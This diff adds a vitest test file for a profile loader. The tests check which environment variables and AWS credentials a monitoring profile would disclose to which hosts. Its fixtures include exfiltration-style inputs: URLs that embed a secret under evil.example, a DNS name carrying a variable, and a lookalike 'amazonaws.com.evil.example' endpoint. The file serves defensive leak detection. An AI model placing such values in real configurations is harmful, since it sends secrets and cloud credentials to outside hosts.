@@ -1,0 +1,77 @@
+// What of the environment a profile hands to whom: wherever a variable stands, but where it says itself who is asked.
+import { expect, test } from 'vitest';
+import { loadProfile } from '../../src/profile/load.ts';
+import { sourceKinds } from '../../src/sources/registry.ts';
+import { loaded, temporaryFolder } from './support/folder.ts';
+
+const env = {
+  BASE: 'https://api.example.com',
+  SECRET: 'abcdef',
+  WORD: 'jobs',
+  HOST: 'db.example.com',
+  NAME: 'n.example.com',
+};
+
+async function sendsOf(source: string, read = 'read: up', more = ''): Promise<readonly string[]> {
+  const folder = await temporaryFolder();
+  const file = await folder.write(
+    'p.yaml',
+    `profile: p/p\n${more}sources:\n  s: { ${source} }\nmetrics:\n  m: { title: "\${WORD}", from: s, ${read} }\n`,
+  );
+  const { sends } = loaded(await loadProfile(file, { ...folder.options(env), kinds: sourceKinds }));
+  return sends.map(({ variable, to }) => `${variable} → ${to}`);
+}
+
+test.each([
+  ['a base says who is asked', 'kind: http, url: "${BASE}/x"', []],
+  [
+    'and is told to nobody else',
+    'kind: http, url: "${BASE}/${WORD}?k=${SECRET}"',
+    ['SECRET → api.example.com', 'WORD → api.example.com'],
+  ],
+  [
+    'a default in its place is the profile’s own address',
+    'kind: http, url: "${NONE:-https://evil.example/${SECRET}}"',
+    ['SECRET → evil.example'],
+  ],
+  ['it is what is used that counts', 'kind: http, url: "${BASE:-https://evil.example/${SECRET}}"', []],
+  ['a part of a host', 'kind: http, url: "https://${WORD}.evil.example/"', ['WORD → jobs.evil.example']],
+  ['a header', 'kind: http, url: "${BASE}", headers: { x-key: "${SECRET}" }', ['SECRET → api.example.com']],
+  ['the profile’s own variable', 'kind: http, url: "{base}/{word}"', ['WORD → api.example.com']],
+  [
+    'a step',
+    'kind: http, steps: [ { name: one, url: "${BASE}", headers: { a: "${SECRET}" } } ]',
+    ['SECRET → api.example.com'],
+  ],
+  ['a name', 'kind: dns, name: "${WORD}.evil.example", type: A', ["WORD → this machine's resolver"]],
+  ['what stays on this machine', 'kind: http, url: "http://127.0.0.1/?k=${SECRET}"', []],
+])('%s', async (_, source, expected) => {
+  const read = source.includes('dns')
+    ? 'read: answers'
+    : source.includes('steps')
+      ? 'read: { step: one, read: status }'
+      : 'read: up';
+  expect(await sendsOf(source, read, 'vars: { base: "${BASE}", word: "${WORD}" }\n')).toEqual(expected);
+});
+
+test('what a metric reads is asked of its source', async () => {
+  const read = 'read: { list: "${WORD}" }';
+  expect(await sendsOf('kind: redis, url: "redis://q.example:6379"', read)).toEqual(['WORD → q.example']);
+});
+
+test('what a command is given is agreed to with the command', async () => {
+  expect(await sendsOf('kind: exec, command: ["a", "${SECRET}"]', 'read: ok')).toEqual([]);
+});
+
+test.each([
+  ['', 'http://c.example:1', ['AWS credentials → c.example']],
+  [', anonymous: true', 'http://c.example:1', []],
+  ['', 'https://vpce-1.monitoring.us-east-1.vpce.amazonaws.com', []],
+  ['', 'http://monitoring.us-east-1.amazonaws.com', ['AWS credentials → monitoring.us-east-1.amazonaws.com']],
+  ['', 'https://amazonaws.com.evil.example', ['AWS credentials → amazonaws.com.evil.example']],
+  ['', 'http://127.0.0.1:4566', []],
+])('a request that is signed%s for %s', async (more, endpoint, expected) => {
+  const source = `kind: cloudwatch, region: us-east-1, endpoint: "${endpoint}"${more}`;
+  const read = 'read: { namespace: A, metric: m, stat: Sum, period: 60s }';
+  expect(await sendsOf(source, read)).toEqual(expected);
+});
